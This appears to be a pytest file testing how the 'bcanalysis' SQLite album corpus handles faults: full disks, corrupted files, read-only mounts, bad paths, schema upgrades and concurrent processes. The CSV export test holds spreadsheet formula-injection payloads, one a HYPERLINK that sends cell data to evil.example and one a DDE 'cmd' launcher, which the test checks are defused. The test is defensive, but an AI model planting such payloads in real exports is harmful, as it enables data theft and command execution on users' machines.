"""The corpus under faults and bad input: a full disk, a damaged file, a read-only file, unusable paths, CSV
formula injection. Every case ends in a CorpusError (API) or a one-line message (CLI), never a traceback, and loses
nothing already stored."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from bcanalysis.store import FORMULA_STARTS, SCHEMA_VERSION, Corpus, CorpusError, Cover, UpgradeWarning

REPO = Path(__file__).resolve().parents[1]


def _album(i: int, **extra) -> dict:
    base = {
        "url": f"https://store{i}.bandcamp.com/album/record-{i}",
        "store": f"store{i}",
        "album": f"record-{i}",
        "title": f"Record {i}",
        "artist": f"Artist {i}",
        "art_id": 1000 + i,
        "release_date": "2020-07-17",
        "tags": ["ambient"],
        "item_id": 10_000 + i,
        "item_url": f"https://store{i}.bandcamp.com/album/record-{i}",
    }
    return {**base, **extra}


def _palette(i: int, n: int = 40):
    return [
        SimpleNamespace(rgb=((i * 7 + k) % 256, (i * 13 + 3 * k) % 256, (5 * k) % 256), proportion=1 / n)
        for k in range(n)
    ]


def _corpus_with_covers(path: Path, n: int) -> None:
    """A corpus of `n` albums, each with a small real JPEG cover on disk and no palette yet."""
    with Corpus(path) as corpus:
        corpus.covers_dir.mkdir(exist_ok=True)
        for i in range(n):
            buf = io.BytesIO()
            pixels = np.random.default_rng(i).integers(0, 256, (16, 16, 3), dtype=np.uint8)  # many colour bins
            Image.fromarray(pixels).save(buf, "PNG")
            file = corpus.cover_file(1000 + i, 10)
            file.write_bytes(buf.getvalue())
            corpus.add_album(_album(i), Cover("ok", file=file, size=10, width=16, height=16))


def _cli(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "bcanalysis", *args], capture_output=True, text=True, timeout=300, **kw
    )


def _is_message(result: subprocess.CompletedProcess, code: int, *needles: str) -> None:
    assert result.returncode == code, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr, result.stderr
    assert result.stderr.startswith("bcanalysis: error: "), result.stderr
    for needle in needles:
        assert needle in result.stderr, result.stderr


# --- a full disk --------------------------------------------------------------------------------------------------


def test_a_full_database_raises_a_corpus_error_and_keeps_what_was_stored(tmp_path):
    path = tmp_path / "c.sqlite"
    corpus = Corpus(path)
    corpus.add_album(_album(0), Cover("missing", "no art"))
    (pages,) = corpus.query("PRAGMA page_count")[0]
    corpus.query(f"PRAGMA max_page_count = {pages + 2}")  # SQLite answers SQLITE_FULL past this, as on a full disk
    with pytest.raises(CorpusError, match=r"disk is full.*rerun the same command") as info:
        for i in range(1, 200):
            corpus.save_palettes([(1, _palette(i))], "test/1")
            corpus.add_album(_album(i, title="x" * 2000), Cover("missing", "no art"))
    assert str(path) in str(info.value)
    corpus.close()
    with Corpus(path) as again:  # the failed transaction was rolled back; the albums before it are whole
        assert again.counts()["albums"] >= 1
        assert again.query("PRAGMA integrity_check")[0][0] == "ok"


def _small_filesystem_available() -> str | None:
    """How to mount a small tmpfs here (a user namespace, or plain mount as root), or None."""
    probe = "d=$(mktemp -d) && mount -t tmpfs -o size=64k tmpfs $d && umount $d"
    if (
        shutil.which("unshare")
        and subprocess.run(["unshare", "-rm", "sh", "-c", probe], capture_output=True).returncode == 0
    ):
        return "unshare"
    if os.geteuid() == 0 and subprocess.run(["unshare", "-m", "sh", "-c", probe], capture_output=True).returncode == 0:
        return "root"
    return None


@pytest.mark.slow
def test_palettes_on_a_full_disk_ends_in_a_message_and_keeps_the_corpus(tmp_path):
    how = _small_filesystem_available()
    if how is None:
        pytest.skip("cannot mount a small tmpfs here (no user namespaces and not root): no full disk to fill")
    src = tmp_path / "src"
    src.mkdir()
    _corpus_with_covers(src / "c.sqlite", 400)
    used_kb = sum(-(-f.stat().st_size // 4096) * 4 for f in src.rglob("*") if f.is_file())  # tmpfs: 4 KiB pages
    size_kb = used_kb + 96  # room for the corpus and its covers, not for 400 palettes of 40 colours
    mnt = tmp_path / "full"
    mnt.mkdir()
    script = (
        f"mount -t tmpfs -o size={size_kb}k tmpfs {mnt} && cp -r {src}/. {mnt}/ && "
        f"{sys.executable} -m bcanalysis palettes --db {mnt}/c.sqlite --workers 1 --no-progress; "
        f"code=$?; {sys.executable} -c \"import sqlite3; db = sqlite3.connect('{mnt}/c.sqlite'); "
        "print('integrity', db.execute('PRAGMA integrity_check').fetchone()[0]); "
        "print('albums', db.execute('SELECT COUNT(*) FROM albums').fetchone()[0])\"; exit $code"
    )
    cmd = ["unshare", "-rm" if how == "unshare" else "-m", "sh", "-c", script]
    result = subprocess.run(cmd, capture_output=True, text=True, timeout=300, cwd=REPO)
    _is_message(result, 1, "disk is full", f"{mnt}/c.sqlite", "rerun the same command")
    assert "integrity ok" in result.stdout and "albums 400" in result.stdout, result.stdout


# --- a damaged file -----------------------------------------------------------------------------------------------


def _damaged_corpus(path: Path) -> None:
    with Corpus(path) as corpus:
        for i in range(300):
            corpus.add_album(_album(i, title=f"Record {i} " + "y" * 200), Cover("missing", "no art"))
    db = sqlite3.connect(path)
    (page_size,) = db.execute("PRAGMA page_size").fetchone()
    leaves = [n for (n,) in db.execute("SELECT pageno FROM dbstat WHERE name = 'albums' AND pagetype = 'leaf'")]
    db.close()
    data = bytearray(path.read_bytes())
    assert len(leaves) > 3
    for page in leaves:  # the albums' rows go; the schema stays, so the file opens and the damage shows on reading
        offset = (page - 1) * page_size
        data[offset : offset + 64] = b"\xa5" * 64
    path.write_bytes(bytes(data))


def test_a_damaged_corpus_raises_a_corpus_error_naming_the_file_and_the_cure(tmp_path):
    path = tmp_path / "c.sqlite"
    _damaged_corpus(path)
    with pytest.raises(CorpusError, match=r"is damaged.*\.recover") as info:
        with Corpus(path) as corpus:
            corpus.albums()
    assert str(path) in str(info.value)


@pytest.mark.slow
def test_palettes_on_a_damaged_corpus_ends_in_a_message(tmp_path):
    path = tmp_path / "c.sqlite"
    _damaged_corpus(path)
    _is_message(_cli("palettes", "--db", str(path), "--no-progress"), 1, "is damaged", str(path))


# --- read-only ----------------------------------------------------------------------------------------------------


def _readonly_corpus(base: Path, n: int = 40) -> Path:
    folder = base / "ro"
    folder.mkdir()
    path = folder / "c.sqlite"
    with Corpus(path) as corpus:
        for i in range(n):
            album_id = corpus.add_album(_album(i, tags=["ambient" if i % 2 else "metal"]), Cover("missing", "-"))
            corpus.save_palettes([(album_id, _palette(i))], "test/1")
    return path


def _run_with_readonly(folder: Path, argv: list[str]) -> subprocess.CompletedProcess:
    """Run `argv` with `folder` mounted read-only (a bind mount in a user namespace: root cannot write it either)."""
    probe = subprocess.run(["unshare", "-rm", "true"], capture_output=True) if shutil.which("unshare") else None
    if probe is None or probe.returncode != 0:
        pytest.skip("no user namespaces here: cannot make a folder read-only for this test")
    script = f'mount --bind {folder} {folder} && mount -o remount,bind,ro {folder} && exec "$@"'
    return subprocess.run(
        ["unshare", "-rm", "sh", "-c", script, "sh", *argv], capture_output=True, text=True, timeout=300, cwd=REPO
    )


@pytest.mark.slow
def test_readonly_corpus_reads_without_writing_a_byte(tmp_path):
    path = _readonly_corpus(tmp_path)
    before = {p.name: p.read_bytes() for p in path.parent.iterdir()}
    code = (
        "from bcanalysis.store import Corpus; "
        f"c = Corpus({str(path)!r}, readonly=True); df = c.albums(); "
        "print(len(df), sum(p is not None for p in df['colorgram'])); c.close()"
    )
    result = _run_with_readonly(path.parent, [sys.executable, "-c", code])
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["40", "40"]
    assert {p.name: p.read_bytes() for p in path.parent.iterdir()} == before  # no byte, no -wal/-shm file


def test_a_readonly_corpus_refuses_writes_with_a_corpus_error(tmp_path):
    path = tmp_path / "c.sqlite"
    Corpus(path).close()
    with Corpus(path, readonly=True) as corpus:
        with pytest.raises(CorpusError, match="read-only"):
            corpus.add_album(_album(1), Cover("missing", "-"))
    with Corpus(path) as corpus:
        assert corpus.counts()["albums"] == 0


@pytest.mark.slow
def test_sweep_runs_on_a_readonly_corpus(tmp_path):
    path = _readonly_corpus(tmp_path)
    out = tmp_path / "out"
    argv = [
        sys.executable,
        "-m",
        "bcanalysis",
        "sweep",
        "--db",
        str(path),
        "--out",
        str(out),
        "--bits",
        "9",
        "--min-n",
        "1",
        "--max-n",
        "2",
        "--no-progress",
        "--workers",
        "1",
    ]
    result = _run_with_readonly(path.parent, argv)
    assert result.returncode == 0, result.stderr
    assert (out / "sweep.csv").is_file()


# --- unusable paths -----------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_an_empty_file_is_no_corpus_to_read_and_a_new_corpus_to_write(tmp_path):
    empty = tmp_path / "empty.sqlite"
    empty.touch()
    _is_message(_cli("palettes", "--db", str(empty), "--no-progress"), 2, "no corpus at", "empty file", str(empty))
    assert empty.stat().st_size == 0
    with pytest.raises(CorpusError, match="empty file"):
        Corpus(empty, create=False)
    with pytest.raises(CorpusError, match="empty file"):
        Corpus(empty, readonly=True)
    assert empty.stat().st_size == 0
    with Corpus(empty) as corpus:  # what a run killed as it created the file leaves: a new corpus
        corpus.add_album(_album(0), Cover("missing", "no art"))
    assert _counts(empty) == {
        "version": SCHEMA_VERSION,
        "albums": 1,
        "listings": 0,
        "palette_arrays": 0,
        "palette_problems": 0,
    }


@pytest.mark.slow
def test_a_missing_corpus_is_not_created_by_a_reading_command(tmp_path):
    missing = tmp_path / "nothing" / "c.sqlite"
    _is_message(_cli("palettes", "--db", str(missing), "--no-progress"), 2, "no corpus at", "bcanalysis scrape")
    assert not missing.parent.exists()


@pytest.mark.slow
def test_a_file_name_too_long_for_the_file_system_ends_in_a_message(tmp_path):
    long = tmp_path / ("x" * 300 + ".sqlite")
    for command in (["palettes", "--no-progress"], ["sweep", "--out", str(tmp_path / "o")]):
        _is_message(_cli(command[0], "--db", str(long), *command[1:]), 2, "File name too long")
    with pytest.raises(CorpusError, match="File name too long"):
        Corpus(long)


@pytest.mark.slow
def test_a_file_that_is_not_sqlite_is_refused(tmp_path):
    text = tmp_path / "notes.sqlite"
    text.write_text("these are my notes, not a database\n" * 100)
    _is_message(_cli("palettes", "--db", str(text), "--no-progress"), 2, str(text))
    assert text.read_text().startswith("these are my notes")


# --- CSV for spreadsheets -----------------------------------------------------------------------------------------


def test_csv_export_defuses_spreadsheet_formulas_and_parquet_keeps_raw_text(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]
    with Corpus(tmp_path / "c.sqlite") as corpus:
        for i, title in enumerate(hostile):
            corpus.add_album(_album(i, title=title, artist="=cmd|' /C calc'!A0"), Cover("missing", "-"))
        corpus.add_album(_album(99, title="Plain -title"), Cover("missing", "-"))
        csv_path = corpus.to_csv(tmp_path / "albums.csv")
        pq = pd.read_parquet(corpus.to_parquet(tmp_path / "albums.parquet"))
    with open(csv_path, newline="", encoding="utf-8") as f:  # the csv module reads quoted CR and tabs exactly
        rows = list(csv.DictReader(f))
    assert [r["title"] for r in rows[: len(hostile)]] == ["'" + t for t in hostile]
    assert {r["artist"] for r in rows[: len(hostile)]} == {"'=cmd|' /C calc'!A0"}
    assert rows[-1]["title"] == "Plain -title"
    assert all(not v.startswith(FORMULA_STARTS) for r in rows for v in r.values())
    assert [int(r["art_id"]) for r in rows] == [1000 + i for i in range(len(hostile))] + [1099]  # numbers stay
    assert list(pq["title"][: len(hostile)]) == hostile


# --- old and damaged corpora, several processes at once -----------------------------------------------------------


def _counts(path: Path) -> dict[str, int]:
    """What the SQLite file holds, read with sqlite3 itself (not through bcanalysis)."""
    db = sqlite3.connect(path)
    try:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        out = {"version": db.execute("PRAGMA user_version").fetchone()[0]}
        for table in ("albums", "listings", "palettes", "palette_arrays", "palette_problems"):
            if table in tables:
                out[table] = db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
        return out
    finally:
        db.close()


def _v3_corpus(path: Path, n: int, *, colours: int = 40, covers: bool = False) -> dict[int, list]:
    """A corpus as bcanalysis wrote it at schema 3, with the real old DDL (`MIGRATIONS` 1–3): `n` albums, each with a
    palette of `colours` colours in the long `palettes` table and, with `covers`, a real PNG cover on disk. Returns
    the palettes."""
    from bcanalysis.store import schema

    db = sqlite3.connect(path)
    for step in (1, 2, 3):
        for statement in schema.statements(schema.MIGRATIONS[step]):
            db.execute(statement)
    folder = path.with_name(path.stem + "-covers")
    palettes = {}
    for a in range(1, n + 1):
        status, file = "missing", None
        if covers:
            folder.mkdir(exist_ok=True)
            file = f"{folder.name}/a{a:010d}_10.png"
            pixels = np.random.default_rng(a).integers(0, 256, (24, 24, 3), dtype=np.uint8)
            Image.fromarray(pixels).save(path.parent / file)
            status = "ok"
        db.execute(
            "INSERT INTO albums (id, url, store, album, title, artist, art_id, item_id, cover_status,"
            " cover_file, cover_size, scraped_at, page_status, item_type) VALUES (?, ?, ?, ?, ?, 'Old', ?, ?,"
            " ?, ?, 10, '2024-01-01', 'ok', 'a')",
            (a, f"https://s{a}.bandcamp.com/album/r{a}", f"s{a}", f"r{a}", f"Record {a}", a, 10_000 + a, status, file),
        )
        palettes[a] = [((a + 7 * k) % 256, (3 * a + k) % 256, k % 256, 1 / colours) for k in range(colours)]
    db.executemany(
        "INSERT INTO palettes VALUES (?, ?, ?, ?, ?, ?, 'colorgram/1')",
        ((a, rank, *c) for a, cs in palettes.items() for rank, c in enumerate(cs)),
    )
    db.execute("PRAGMA user_version = 3")
    db.commit()
    db.close()
    return palettes


def _stored_palettes(path: Path) -> dict[int, list]:
    db = sqlite3.connect(path)
    rows = db.execute("SELECT album_id, rgb, proportions FROM palette_arrays ORDER BY album_id").fetchall()
    db.close()
    return {
        a: [
            (*map(int, c), float(p))
            for c, p in zip(np.frombuffer(rgb, np.uint8).reshape(-1, 3), np.frombuffer(props, "<f8"), strict=True)
        ]
        for a, rgb, props in rows
    }


@pytest.mark.slow
def test_a_damaged_schema_3_corpus_is_upgraded_without_its_damaged_palettes_and_palettes_extracts_them(tmp_path):
    import colorgram

    path = tmp_path / "old.sqlite"
    palettes = _v3_corpus(path, 6, covers=True)
    db = sqlite3.connect(path)
    db.execute("UPDATE palettes SET r = 300 WHERE album_id = 2 AND rank = 3")  # a channel value 300
    db.execute("UPDATE palettes SET proportion = 'abc' WHERE album_id = 5 AND rank = 0")  # a text proportion
    db.commit()
    db.close()
    api_copy = tmp_path / "copy"
    shutil.copytree(tmp_path, api_copy, ignore=shutil.ignore_patterns("copy"))
    assert _counts(path) == {"version": 3, "albums": 6, "listings": 0, "palettes": 240}

    result = _cli("palettes", "--db", str(path), "--no-progress", "--workers", "1", cwd=REPO)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    (warning,) = [line for line in result.stderr.splitlines() if line.startswith("bcanalysis: warning:")]
    assert "from schema 3 to" in warning and "2 damaged palettes left out" in warning
    assert "album 2: colour 3 has r = 300" in warning and "album 5: colour 0 has proportion 'abc'" in warning
    assert _counts(path) == {
        "version": SCHEMA_VERSION,
        "albums": 6,
        "listings": 0,
        "palette_arrays": 6,
        "palette_problems": 0,
    }
    stored = _stored_palettes(path)
    for album in (1, 3, 4, 6):  # every value of the whole palettes kept, float64 proportions exactly
        assert stored[album] == palettes[album]
    for album in (2, 5):  # the damaged ones extracted again from their covers, as colorgram.py does
        cover = path.parent / f"old-covers/a{album:010d}_10.png"
        assert stored[album] == [(*c.rgb, c.proportion) for c in colorgram.extract(str(cover), 40)]

    again = _cli("palettes", "--db", str(path), "--no-progress", "--workers", "1", cwd=REPO)
    assert again.returncode == 0 and "warning" not in again.stderr, again.stderr  # a rerun goes on: nothing to do
    assert _stored_palettes(path) == stored

    with pytest.warns(UpgradeWarning, match="2 damaged palettes left out"):
        corpus = Corpus(api_copy / "old.sqlite")
    with corpus:  # until `palettes` runs, the reasons are kept and the covers wait for extraction
        problems = corpus.failures().query("source == 'palette'")
        assert problems["album_id"].tolist() == [2, 5]
        assert problems["reason"].tolist() == [
            "colour 3 has r = 300, not a channel value 0..255",
            "colour 0 has proportion 'abc', not a number 0..1",
        ]
        assert [a for a, _ in corpus.covers_without_palette()] == [2, 5]
        assert corpus.upgrade.from_version == 3 and len(corpus.palette_arrays()) == 4
    old = json.loads(
        sqlite3.connect(api_copy / "old.sqlite")
        .execute("SELECT old_rows FROM palette_problems WHERE album_id = 2")
        .fetchone()[0]
    )
    assert old[3][:3] == [300, 2 * 3 + 3, 3] and len(old) == 40  # nothing lost: the damaged rows as they were


@pytest.mark.parametrize(
    "version, needle",
    [(-1, "schema version -1, which no bcanalysis writes"), (SCHEMA_VERSION + 1, "written by a newer bcanalysis")],
)
@pytest.mark.slow
def test_an_impossible_or_newer_schema_version_ends_in_a_message_and_changes_nothing(tmp_path, version, needle):
    path = tmp_path / "c.sqlite"
    with Corpus(path) as corpus:
        corpus.add_album(_album(0), Cover("missing", "no art"))
    db = sqlite3.connect(path)
    db.execute(f"PRAGMA user_version = {version}")
    db.commit()
    db.close()
    before = path.read_bytes()
    for command in (["palettes", "--no-progress"], ["sweep", "--out", str(tmp_path / "o")]):
        _is_message(_cli(command[0], "--db", str(path), *command[1:]), 2, needle, str(path))
    with pytest.raises(CorpusError, match=needle):
        Corpus(path)
    assert path.read_bytes() == before
    assert _counts(path) == {"version": version, "albums": 1, "listings": 0, "palette_arrays": 0, "palette_problems": 0}


#: A child process that imports the command first, waits at a barrier (a file the test creates), then runs it.
_AT_THE_BARRIER = """
import os, sys, time
from bcanalysis.cli import main
ready, go = sys.argv[1], sys.argv[2]
open(ready, "w").close()
while not os.path.exists(go):
    time.sleep(0.001)
sys.exit(main(sys.argv[3:]))
"""


def _at_once(tmp_path: Path, commands: list[list[str]]) -> list[subprocess.CompletedProcess]:
    """Run several `bcanalysis` commands in processes of their own, released at the same instant."""
    gate = Path(tempfile.mkdtemp(dir=tmp_path, prefix="barrier-"))
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", _AT_THE_BARRIER, str(gate / f"ready{i}"), str(gate / "go"), *command],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            cwd=REPO,
        )
        for i, command in enumerate(commands)
    ]
    deadline = time.monotonic() + 120
    while sum((gate / f"ready{i}").exists() for i in range(len(commands))) < len(commands):
        if time.monotonic() > deadline or any(p.poll() is not None for p in procs):
            pytest.fail(f"a process did not reach the barrier: {[p.poll() for p in procs]}")
        time.sleep(0.01)
    (gate / "go").touch()
    out = []
    for p, command in zip(procs, commands, strict=True):
        stdout, stderr = p.communicate(timeout=600)
        out.append(subprocess.CompletedProcess(command, p.returncode, stdout, stderr))
    return out


@pytest.mark.slow
def test_two_processes_opening_one_old_corpus_at_once_both_finish_on_the_new_schema(tmp_path):
    path = tmp_path / "old.sqlite"
    palettes = _v3_corpus(path, 12_000)  # large enough that one upgrade is still running when the other opens
    assert _counts(path) == {"version": 3, "albums": 12_000, "listings": 0, "palettes": 480_000}
    results = _at_once(tmp_path, [["palettes", "--db", str(path), "--no-progress", "--workers", "1"]] * 2)
    for result in results:
        assert result.returncode == 0, result.stderr
        assert "Traceback" not in result.stderr and "already exists" not in result.stderr
    assert _counts(path) == {
        "version": SCHEMA_VERSION,
        "albums": 12_000,
        "listings": 0,
        "palette_arrays": 12_000,
        "palette_problems": 0,
    }
    assert _stored_palettes(path) == palettes  # upgraded once, every value kept


@pytest.mark.slow
def test_processes_creating_one_corpus_at_once_all_finish_and_store_each_album_once(tmp_path):
    from bcanalysis.demo import DemoServer

    def scrape(path: Path) -> list[str]:
        return [
            "scrape",
            "--db",
            str(path),
            "--base-url",
            server.url,
            "--tag",
            "metal",
            "--albums-per-tag",
            "8",
            "--rate",
            "500",
            "--cover-rate",
            "500",
            "--no-progress",
        ]

    with DemoServer(albums_per_tag=8, max_cover_px=32) as server:
        reference = tmp_path / "one-process.sqlite"
        assert _cli(*scrape(reference), cwd=REPO).returncode == 0
        with Corpus(reference) as corpus:
            expected = sorted(corpus.albums()["url"])
        assert len(expected) == 8
        for round_ in range(3):  # the race is a matter of microseconds: several rounds, four processes each
            path = tmp_path / f"new{round_}.sqlite"
            for result in _at_once(tmp_path, [scrape(path)] * 4):
                assert result.returncode == 0, result.stderr
                assert "Traceback" not in result.stderr and "already exists" not in result.stderr
            with Corpus(path) as corpus:
                assert sorted(corpus.albums()["url"]) == expected  # each album once
            assert _counts(path) == _counts(reference)


#: `bcanalysis ARGS…` killed with SIGKILL the instant SQLite has created the corpus file, before it writes a byte.
_KILLED_AS_THE_FILE_APPEARS = """
import os, signal, sqlite3, sys
from bcanalysis.cli import main
real = sqlite3.connect
def connect(database, *args, **kwargs):
    db = real(database, *args, **kwargs)
    if os.path.exists(database) and os.path.getsize(database) == 0:
        os.kill(os.getpid(), signal.SIGKILL)
    return db
sqlite3.connect = connect
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.slow
def test_a_run_killed_as_the_corpus_file_appears_leaves_a_file_the_rerun_goes_on_with(tmp_path):
    from bcanalysis.demo import DemoServer

    path = tmp_path / "new.sqlite"
    with DemoServer(albums_per_tag=6, max_cover_px=32) as server:
        scrape = [
            "scrape",
            "--db",
            str(path),
            "--base-url",
            server.url,
            "--tag",
            "rock",
            "--albums-per-tag",
            "6",
            "--rate",
            "500",
            "--cover-rate",
            "500",
            "--no-progress",
        ]
        killed = subprocess.run(
            [sys.executable, "-c", _KILLED_AS_THE_FILE_APPEARS, *scrape],
            capture_output=True,
            text=True,
            timeout=300,
            cwd=REPO,
        )
        assert killed.returncode == -signal.SIGKILL, killed.stderr
        assert path.stat().st_size == 0  # what a kill at that instant leaves
        _is_message(_cli("palettes", "--db", str(path), "--no-progress"), 2, "no corpus at", "empty file")
        assert path.stat().st_size == 0  # a reading command creates nothing
        rerun = _cli(*scrape, cwd=REPO)
        assert rerun.returncode == 0, rerun.stderr
        reference = tmp_path / "never-killed.sqlite"
        assert _cli(*[str(reference) if a == str(path) else a for a in scrape], cwd=REPO).returncode == 0
    with Corpus(path) as corpus, Corpus(reference) as ref:
        assert sorted(corpus.albums()["url"]) == sorted(ref.albums()["url"])
    assert _counts(path) == _counts(reference) and _counts(path)["albums"] == 6


# --- many own columns ---------------------------------------------------------------------------------------------


def _wide_corpus(path: Path, albums: int, columns: int) -> list[dict]:
    """`albums` albums with palettes, each with `columns` own metadata columns (as an imported table's row would
    leave them in `extra`), written into the real SQLite file; returns each album's own columns."""
    own = [{f"field {k}": f"{i}:{k}" if k % 3 else k * i for k in range(columns)} for i in range(albums)]
    with Corpus(path) as corpus:
        for i in range(albums):
            album_id = corpus.add_album(_album(i), Cover("missing", "no art"))
            corpus.save_palettes([(album_id, _palette(i))], "test/1")
    db = sqlite3.connect(path)
    db.executemany("UPDATE albums SET extra = ? WHERE id = ?", [(json.dumps(row), i + 1) for i, row in enumerate(own)])
    db.commit()
    db.close()
    return own


@pytest.mark.slow
def test_sweep_on_a_corpus_with_thousands_of_own_columns_finishes(tmp_path):
    """12,000 own columns (209 s of albums() before, quadratic): the sweep reads the corpus and writes its table; the
    own columns come back as one `extra` column with a warning. How the work grows is counted in test_store.py
    (albums() builds own columns in one pass); its time is in benchmarks/bench_own_columns.py."""
    path = tmp_path / "wide.sqlite"
    _wide_corpus(path, 60, 12_000)
    out = tmp_path / "out"
    result = _cli(
        "sweep",
        "--db",
        str(path),
        "--out",
        str(out),
        "--bits",
        "9",
        "--min-n",
        "1",
        "--max-n",
        "1",
        "--workers",
        "1",
        "--no-progress",
        cwd=REPO,
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert (out / "sweep.csv").is_file()
    assert _counts(path)["albums"] == 60
